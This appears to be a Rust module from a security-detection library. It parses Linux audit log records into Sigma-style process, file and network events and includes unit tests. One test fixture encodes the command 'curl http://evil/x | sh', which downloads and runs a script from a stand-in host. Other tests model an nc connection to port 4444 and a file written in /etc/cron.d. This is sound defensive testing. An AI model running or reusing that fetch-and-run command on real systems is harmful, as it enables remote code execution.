//! The kernel's audit log. Each record is an event of the service `auditd` with its fields as the log names them; the
//! records of one action together (`msg=audit(time:serial)`) also make an event of the category `process_creation`,
//! `file_event` or `network_connection`, in the words of Sigma's taxonomy.

mod action;
mod record;

use std::collections::VecDeque;

use action::{Action, Processes};
pub use record::Record;

use super::{Event, Source};

/// Bytes of one line; the kernel writes at most some 9,000.
const MAX_LINE: usize = 1 << 20;
/// Actions whose records are not all there yet.
const MAX_OPEN: usize = 256;
/// Milliseconds after which an action has no further records.
const PATIENCE: i64 = 2000;

/// Reads an audit log line by line, and remembers what is needed to put records together: unfinished actions, and which
/// program a process runs. Both are bounded.
///
/// ```
/// use keelguard_rules::events::audit::Audit;
/// let mut audit = Audit::default();
/// let mut images = Vec::new();
/// for line in [
///     r#"type=SYSCALL msg=audit(1700000000.123:7): arch=c000003e syscall=59 success=yes pid=9 ppid=1 exe="/usr/bin/id""#,
///     r#"type=EXECVE msg=audit(1700000000.123:7): argc=1 a0="id""#,
///     "type=EOE msg=audit(1700000000.123:7): ",
/// ] {
///     audit.line(line, |event| images.extend(event.field("Image").map(String::from)));
/// }
/// assert_eq!(images, ["/usr/bin/id"]);
/// ```
#[derive(Debug, Default)]
pub struct Audit {
    open: VecDeque<Action>,
    processes: Processes,
    unread: u64,
}

impl Audit {
    /// Reads a line and calls with each event that it makes or completes.
    pub fn line(&mut self, line: &str, mut call: impl FnMut(&Event<'_>)) {
        let Some(record) = Some(line).filter(|line| line.len() <= MAX_LINE).and_then(Record::parse) else {
            self.unread += u64::from(!line.trim().is_empty());
            return;
        };
        call(&event(&record));
        let now = record.milliseconds;
        while self.open.len() >= MAX_OPEN
            || self.open.front().is_some_and(|action| now - action.milliseconds > PATIENCE)
        {
            let Some(action) = self.open.pop_front() else { break };
            action.events(&mut self.processes, &mut call);
        }
        if record.kind == "EOE" {
            if let Some(at) = self.open.iter().position(|action| action.is_of(&record))
                && let Some(action) = self.open.remove(at)
            {
                action.events(&mut self.processes, &mut call);
            }
            return;
        }
        if !Action::concerns(record.kind) {
            return;
        }
        if let Some(action) = self.open.iter_mut().rfind(|action| action.is_of(&record)) {
            action.add(&record);
        } else {
            let mut action = Action::new(&record);
            action.add(&record);
            self.open.push_back(action);
        }
    }

    /// Calls with the events of actions that were not complete when the log ended.
    pub fn finish(&mut self, mut call: impl FnMut(&Event<'_>)) {
        while let Some(action) = self.open.pop_front() {
            action.events(&mut self.processes, &mut call);
        }
    }

    /// Lines that are no records of the audit log, or too long.
    pub fn unread(&self) -> u64 {
        self.unread
    }
}

/// A record as an event of its own.
fn event<'r>(record: &'r Record<'_>) -> Event<'r> {
    let mut event = Event::new(Source::linux_service("auditd")).text(record.line).with("type", record.kind);
    event.time = record.time();
    event.host = record.node.into();
    for (name, value) in &record.fields {
        event.push(*name, value.as_ref());
    }
    if record.kind == "SYSCALL"
        && record.field("SYSCALL").is_none()
        && let Some(name) = record.call()
    {
        event.push("SYSCALL", name);
    }
    event
}

#[cfg(test)]
mod tests {
    use super::*;

    fn events(lines: &[&str]) -> Vec<(String, Vec<(String, String)>)> {
        let mut audit = Audit::default();
        let mut all = Vec::new();
        let mut keep = |event: &Event<'_>| {
            let field = |(name, _): &(std::borrow::Cow<'_, str>, _)| {
                (name.to_string(), event.field(name).unwrap_or_default().into_owned())
            };
            let source = if event.source.category.is_empty() { &event.source.service } else { &event.source.category };
            all.push((source.to_string(), event.fields().iter().map(field).collect()));
        };
        for line in lines {
            audit.line(line, &mut keep);
        }
        audit.finish(&mut keep);
        all
    }

    fn of<'e>(events: &'e [(String, Vec<(String, String)>)], source: &str, name: &str) -> Vec<&'e str> {
        let fields = events.iter().filter(|(from, _)| from == source).flat_map(|(_, fields)| fields);
        fields.filter(|(field, _)| field == name).map(|(_, value)| value.as_str()).collect()
    }

    const SHELL: [&str; 6] = [
        r#"type=SYSCALL msg=audit(1700000000.123:77): arch=c000003e syscall=59 success=yes exit=0 a0=55d a1=55e a2=55f a3=8 items=2 ppid=900 pid=901 auid=1000 uid=33 gid=33 euid=33 suid=33 fsuid=33 egid=33 sgid=33 fsgid=33 tty=(none) ses=3 comm="sh" exe="/usr/bin/dash" subj=unconfined key="exec""#,
        r#"type=EXECVE msg=audit(1700000000.123:77): argc=3 a0="sh" a1="-c" a2=6375726C20687474703A2F2F6576696C2F78207C207368"#,
        r#"type=CWD msg=audit(1700000000.123:77): cwd="/var/www""#,
        r#"type=PATH msg=audit(1700000000.123:77): item=0 name="/bin/sh" inode=1 dev=08:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL"#,
        "type=PROCTITLE msg=audit(1700000000.123:77): proctitle=7368002D63",
        "type=EOE msg=audit(1700000000.123:77): ",
    ];

    #[test]
    fn the_records_of_a_started_program_are_one_process_creation() {
        let all = events(&SHELL);
        assert_eq!(of(&all, "process_creation", "CommandLine"), ["sh -c curl http://evil/x | sh"]);
        assert_eq!(of(&all, "process_creation", "Image"), ["/usr/bin/dash"]);
        assert_eq!(of(&all, "process_creation", "CurrentDirectory"), ["/var/www"]);
        assert_eq!(of(&all, "process_creation", "User"), ["33"]);
        assert_eq!(of(&all, "auditd", "SYSCALL"), ["execve"]);
        assert_eq!(
            of(&all, "auditd", "a2"),
            ["55f", "curl http://evil/x | sh"],
            "arguments of calls are numbers, not text"
        );
        assert_eq!(of(&all, "auditd", "proctitle"), ["sh -c"]);
    }

    #[test]
    fn a_process_knows_the_program_of_its_parent_once_that_was_started() {
        let child: Vec<String> = SHELL
            .iter()
            .map(|line| {
                let line = line.replace(":77)", ":78)").replace("ppid=900 pid=901", "ppid=901 pid=950");
                line.replace("/usr/bin/dash", "/usr/bin/curl")
            })
            .collect();
        let lines: Vec<&str> = SHELL.into_iter().chain(child.iter().map(String::as_str)).collect();
        let all = events(&lines);
        assert_eq!(of(&all, "process_creation", "ParentImage"), ["/usr/bin/dash"]);
        assert_eq!(of(&all, "process_creation", "ParentCommandLine"), ["sh -c curl http://evil/x | sh"]);
    }

    #[test]
    fn names_that_auditd_has_looked_up_are_fields() {
        let line = "type=SYSCALL msg=audit(1.0:1): arch=c000003e syscall=59 success=yes pid=5 ppid=4 uid=0 exe=\"/bin/x\" key=(null)\u{1d}ARCH=x86_64 SYSCALL=execve AUID=\"alice\" UID=\"root\"";
        let all = events(&[line]);
        assert_eq!(of(&all, "auditd", "AUID"), ["alice"]);
        assert_eq!(of(&all, "process_creation", "User"), ["root"]);
    }

    #[test]
    fn a_file_that_comes_into_being_is_a_file_event_with_its_whole_path() {
        let all = events(&[
            r#"type=SYSCALL msg=audit(1.5:9): arch=c000003e syscall=257 success=yes pid=5 ppid=4 uid=0 exe="/usr/bin/touch""#,
            r#"type=CWD msg=audit(1.5:9): cwd="/etc""#,
            r#"type=PATH msg=audit(1.5:9): item=0 name="cron.d/" inode=1 nametype=PARENT"#,
            r#"type=PATH msg=audit(1.5:9): item=1 name="cron.d/x y" inode=2 nametype=CREATE"#,
        ]);
        assert_eq!(of(&all, "file_event", "TargetFilename"), ["/etc/cron.d/x y"]);
        assert_eq!(of(&all, "file_event", "Image"), ["/usr/bin/touch"]);
    }

    #[test]
    fn a_connection_has_its_address_and_port() {
        let all = events(&[
            r#"type=SYSCALL msg=audit(1.5:9): arch=c000003e syscall=42 success=no exit=-115 pid=5 ppid=4 uid=0 exe="/usr/bin/nc""#,
            "type=SOCKADDR msg=audit(1.5:9): saddr=0200115C0A0000070000000000000000",
            r#"type=SYSCALL msg=audit(1.6:10): arch=c000003e syscall=42 success=yes pid=5 ppid=4 uid=0 exe="/usr/bin/nc""#,
            "type=SOCKADDR msg=audit(1.6:10): saddr=0A0001BB0000000020010DB800000000000000000000000100000000",
        ]);
        assert_eq!(of(&all, "network_connection", "DestinationIp"), ["10.0.0.7", "2001:db8::1"]);
        assert_eq!(of(&all, "network_connection", "DestinationPort"), ["4444", "443"]);
    }

    #[test]
    fn long_arguments_are_put_together_and_records_of_two_actions_may_mingle() {
        let all = events(&[
            r#"type=SYSCALL msg=audit(1.5:9): arch=c000003e syscall=59 success=yes pid=5 ppid=4 exe="/bin/a""#,
            r#"type=SYSCALL msg=audit(1.5:10): arch=c000003e syscall=59 success=yes pid=6 ppid=4 exe="/bin/b""#,
            "type=EXECVE msg=audit(1.5:9): argc=2 a0=\"a\" a1_len=8 a1[0]=\"long\"",
            "type=EXECVE msg=audit(1.5:10): argc=1 a0=\"b\"",
            "type=EXECVE msg=audit(1.5:9): a1[1]=6C6F6E67",
        ]);
        assert_eq!(of(&all, "process_creation", "CommandLine"), ["a longlong", "b"]);
    }

    #[test]
    fn what_a_program_reports_in_its_own_words_is_read_as_fields() {
        let all = events(&[
            "type=USER_AUTH msg=audit(1.5:9): pid=5 uid=0 auid=4294967295 ses=4294967295 msg='op=PAM:authentication acct=\"root\" exe=\"/usr/sbin/sshd\" hostname=198.51.100.7 addr=198.51.100.7 terminal=ssh res=failed'",
        ]);
        assert_eq!(of(&all, "auditd", "acct"), ["root"]);
        assert_eq!(of(&all, "auditd", "res"), ["failed"]);
    }

    #[test]
    fn what_is_no_record_is_counted_and_endless_actions_are_ended() {
        let mut audit = Audit::default();
        for line in ["nonsense", "type=SYSCALL msg=audit(x", "", "type= msg=audit(1.0:1): "] {
            audit.line(line, |_| {});
        }
        assert_eq!(audit.unread(), 3);
        for serial in 0..10_000 {
            audit.line(&format!("type=CWD msg=audit(1.0:{serial}): cwd=\"/\""), |_| {});
        }
        assert!(audit.open.len() <= MAX_OPEN);
    }
}
